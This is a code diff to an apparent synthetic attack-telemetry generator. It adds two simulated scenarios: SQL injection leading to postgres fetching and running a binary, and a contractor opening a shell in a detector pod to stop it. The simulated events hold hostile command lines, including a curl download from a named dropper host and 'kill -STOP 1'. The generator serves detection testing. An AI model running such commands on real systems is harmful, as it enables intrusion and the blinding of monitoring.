@@ -27,6 +27,7 @@ const MINER_POOL = '45.9.148.21';
 const EXFIL = '185.220.101.47';
 const CONTRACTOR_IP = '203.0.113.77';
 const SCANNER_IP = '198.51.100.23';
+const DROPPER_HOST = '91.215.85.17';
 
 function stepper(ctx: Ctx, t0: number) {
   let t = t0;
@@ -537,6 +538,145 @@ export const ATTACKS: readonly AttackSpec[] = [
             'command=nsenter&command=-t&command=1&command=-m&command=-u&command=-i&command=-n&command=sh&container=debug-tools&stdin=true&stdout=true&tty=true',
         }),
         label('T1609'),
+      );
+    },
+  },
+  {
+    id: 'ledger-drift',
+    title:
+      'SQL injection reaches COPY FROM PROGRAM on the ledger database: postgres downloads and runs a binary',
+    techniques: ['T1105', 'T1059.004', 'T1071.001'],
+    at: 0.42,
+    run(ctx, t0) {
+      const { rng, estate } = ctx;
+      const step = stepper(ctx, t0);
+      const pod = rng.pick(estate.podsOf('payments', 'ledger-db'));
+      estate.pinned.add(pod);
+      const label = (technique: string) => ({ id: 'ledger-drift', technique });
+      const dropped = '/tmp/.pg_stat_tmp/pgsqlw';
+      let t = step(0, 0);
+      ctx.emit(
+        t,
+        ocsfProcessLaunch(rng, {
+          time: t,
+          pod,
+          name: 'curl',
+          cmdline: `curl -fsS http://${DROPPER_HOST}/p -o ${dropped}`,
+          path: '/usr/bin/curl',
+          parent: 'postgres',
+          user: 'postgres',
+        }),
+        label('T1105'),
+      );
+      t = step(800, 4000);
+      ctx.emit(
+        t,
+        falcoAlert(rng, {
+          time: t,
+          pod,
+          rule: 'Drop and execute new binary in container',
+          priority: 'Critical',
+          message: 'Executing binary not part of base image',
+          proc: {
+            name: 'pgsqlw',
+            cmdline: dropped,
+            pname: 'postgres',
+            user: 'postgres',
+            exepath: dropped,
+          },
+          tags: ['T1610', 'container', 'maturity_stable', 'mitre_persistence', 'process'],
+          sidekick: true,
+        }),
+        label('T1059.004'),
+      );
+      t = step(5000, 30000);
+      ctx.emit(
+        t,
+        ocsfNetworkFlow(rng, {
+          time: t,
+          pod,
+          dstIp: DROPPER_HOST,
+          dstPort: 443,
+          protocol: 'tcp',
+          bytesOut: rng.between(600, 2400),
+          bytesIn: rng.between(300, 1200),
+        }),
+        label('T1071.001'),
+      );
+    },
+  },
+  {
+    id: 'soc-tamper',
+    title: 'the contractor identity opens a shell in the Vigil detector pod to blind the SOC',
+    techniques: ['T1613', 'T1609', 'T1562.001'],
+    at: 0.58,
+    run(ctx, t0) {
+      const { rng, estate } = ctx;
+      const step = stepper(ctx, t0);
+      const pod = rng.pick(estate.podsOf('vigil', 'detector'));
+      estate.pinned.add(pod);
+      const who = human(
+        'dev-contractor@example.com',
+        ['oidc:contractors', 'system:authenticated'],
+        CONTRACTOR_IP,
+      );
+      const label = (technique: string) => ({ id: 'soc-tamper', technique });
+      let t = step(0, 0);
+      ctx.emit(
+        t,
+        auditEvent(rng, {
+          time: t,
+          actor: who,
+          verb: 'list',
+          resource: 'pods',
+          namespace: 'vigil',
+        }),
+        label('T1613'),
+      );
+      t = step(5000, 20000);
+      ctx.emit(
+        t,
+        auditEvent(rng, {
+          time: t,
+          actor: who,
+          verb: 'create',
+          resource: 'pods',
+          namespace: 'vigil',
+          name: pod.name,
+          subresource: 'exec',
+          code: 101,
+          level: 'Request',
+          query: 'command=sh&container=detector&stdin=true&stdout=true&tty=true',
+        }),
+        label('T1609'),
+      );
+      t = step(100, 600);
+      ctx.emit(
+        t,
+        falcoAlert(rng, {
+          time: t,
+          pod,
+          rule: 'Terminal shell in container',
+          priority: 'Notice',
+          message: 'A shell was spawned in a container with an attached terminal',
+          proc: { name: 'sh', cmdline: 'sh', pname: 'runc' },
+          tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
+          sidekick: true,
+        }),
+        label('T1609'),
+      );
+      t = step(3000, 15000);
+      ctx.emit(
+        t,
+        ocsfProcessLaunch(rng, {
+          time: t,
+          pod,
+          name: 'kill',
+          cmdline: 'kill -STOP 1',
+          path: '/bin/kill',
+          parent: 'sh',
+        }),
+        label('T1562.001'),
       );
     },
   },
